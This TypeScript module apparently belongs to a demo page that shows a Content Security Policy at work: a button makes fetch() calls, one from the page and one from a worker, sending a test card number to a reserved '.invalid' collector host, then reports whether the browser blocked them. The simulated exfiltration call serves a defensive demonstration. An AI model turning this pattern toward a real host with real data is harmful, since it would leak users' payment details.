import { element } from '../parts/element.js'
import type { AttemptResult } from './proof-attempt.worker.js'

/** No server can have this name: the ending is reserved. Even without a policy, nothing arrives anywhere. */
const TARGET = 'https://collector.invalid/?text=4111111111111111'

/** Tries to send a text away, from the page and from a worker, and shows what the policy did. */
export function attemptsPart(): HTMLElement {
  const button = element('button', { type: 'button' }, 'Try to send a card number away')
  const results = element('ul', { className: 'proof-attempts', attributes: { 'aria-live': 'polite' } })
  let blocked = 0
  button.addEventListener('click', async () => {
    const [page, worker] = await Promise.all([attemptOfPage(), attemptOfWorker()])
    blocked += [page, worker].filter(({ blockedBy }) => blockedBy !== undefined).length
    results.replaceChildren(
      sentence('The page', page),
      sentence('A worker', worker),
      element('li', {}, element('strong', {}, String(blocked)), ' attempts blocked on this visit'),
    )
  })
  return element(
    'div',
    { className: 'proof-part' },
    element('h3', {}, 'Try to make it leak'),
    element(
      'p',
      {},
      'This runs fetch() to a server elsewhere, once in the page and once in a worker, as bad code inside the library would.',
    ),
    button,
    results,
  )
}

function sentence(who: string, { blockedBy }: AttemptResult): HTMLElement {
  return blockedBy === undefined
    ? element('li', { className: 'warning' }, `${who} was not stopped by a policy. This server does not send one.`)
    : element('li', {}, `${who} was refused by the browser: the policy’s ${blockedBy} does not allow that server.`)
}

async function attemptOfPage(): Promise<AttemptResult> {
  let blockedBy: string | undefined
  const heard = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
    blockedBy = effectiveDirective
  }
  document.addEventListener('securitypolicyviolation', heard)
  await fetch(TARGET).catch(() => {})
  // The browser tells of the violation in its own task.
  await new Promise((done) => setTimeout(done, 50))
  document.removeEventListener('securitypolicyviolation', heard)
  return { blockedBy }
}

function attemptOfWorker(): Promise<AttemptResult> {
  const worker = new Worker(new URL('./proof-attempt.worker.js', import.meta.url), { type: 'module' })
  return new Promise<AttemptResult>((done, failed) => {
    worker.onmessage = ({ data }: MessageEvent<AttemptResult>) => done(data)
    worker.onerror = () => failed(new Error('The worker that tries to send a text did not start'))
    worker.postMessage(TARGET)
  }).finally(() => worker.terminate())
}
